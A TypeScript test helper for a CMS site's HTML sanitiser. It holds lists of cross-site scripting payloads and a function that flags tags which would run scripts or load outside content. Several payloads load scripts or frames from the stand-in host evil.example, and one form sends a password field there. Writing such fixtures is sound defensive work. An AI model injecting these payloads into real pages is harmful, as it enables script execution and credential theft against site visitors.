/** HTML that must do no harm wherever an editor, or an attacker with access to the CMS, puts it. */
export const hostileHtml = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
  '<img src="x" onerror="alert(1)">',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin="alert(1)" attributeName="x"></animate></svg>',
  '<math><a xlink:href="javascript:alert(1)">math</a></math>',
  '<a href="javascript:alert(1)">script</a>',
  '<a href="JaVaScRiPt:alert(1)">case</a>',
  '<a href=" &#14; javascript:alert(1)">control</a>',
  '<a href="java&#x09;script:alert(1)">tab</a>',
  '<a href="&#106;avascript:alert(1)">reference</a>',
  '<a href="vbscript:msgbox(1)">vb</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data</a>',
  '<a href="//evil.example/x">relative</a>',
  '<a href="/\\evil.example/x">backslash</a>',
  '<p onclick="alert(1)" onmouseover=alert(1)>handler</p>',
  '<p style="background:url(javascript:alert(1))">style</p>',
  '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<video src="https://evil.example/x.mp4" onloadstart="alert(1)" autoplay></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle="alert(1)">toggle</details>',
  '<!--><img src=x onerror=alert(1)>-->',
];

/** HTML that does harm after careless sanitising: by removing pieces, or by writing values without escaping. */
export const trickyHtml = [
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<h2 id="x&quot; onclick=&quot;alert(1)">heading</h2>',
  '<a href="https://example.com/&quot; onclick=&quot;alert(1)">quote</a>',
  '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</p>',
];

const tag = /<([a-z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^>"'])*)>/gi;
const attribute = /([^\s"'=<>/]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/g;
const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', tab: '\t', newline: '\n', colon: ':' };

/** Elements that the site never uses. */
const foreign = new Set(['iframe', 'object', 'embed', 'base', 'style', 'math', 'animate', 'template', 'noscript']);
const addresses = new Set(['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset', 'xlink:href']);

/** The tags in a page of the site that would make a browser run a script, load something or go astray. */
export function harmIn(html: string): string[] {
  return [...html.matchAll(tag)].flatMap(([whole, name = '', rest = '']) => {
    const element = name.toLowerCase();
    const attributes = [...rest.matchAll(attribute)].map(
      ([, key = '', double, single, bare]) => [key.toLowerCase(), decoded(double ?? single ?? bare ?? '')] as const,
    );
    const isHarmful =
      foreign.has(element) ||
      attributes.some(
        ([key, value]) => key.startsWith('on') || key === 'style' || isHarmfulAddress(element, key, value),
      ) ||
      (element === 'script' && !isOwnScript(new Map(attributes))) ||
      (element === 'meta' && attributes.some(([key]) => key === 'http-equiv'));
    return isHarmful ? [whole] : [];
  });
}

/** A link may lead to another site, but nothing may be loaded from there. */
function isHarmfulAddress(element: string, key: string, value: string): boolean {
  if (!addresses.has(key)) return false;
  // Browsers ignore blanks at the ends, tabs and line breaks.
  const address = value.replace(/[\s\p{Cc}]/gu, '').replaceAll('\\', '/');
  if (element === 'img' && address.startsWith('data:image/')) return false;
  if (/^(javascript|vbscript|data):/i.test(address) || address.startsWith('//')) return true;
  return address.includes('evil.example') && element !== 'a';
}

function isOwnScript(attributes: ReadonlyMap<string, string>): boolean {
  return attributes.get('type') === 'application/ld+json' || (attributes.get('src') ?? '').startsWith('/assets/');
}

function decoded(text: string): string {
  return text.replace(/&(?:#x([\da-f]+)|#(\d+)|(\w+));?/gi, (whole, hex, decimal, name) => {
    if (name) return named[name.toLowerCase()] ?? whole;
    return String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(decimal));
  });
}
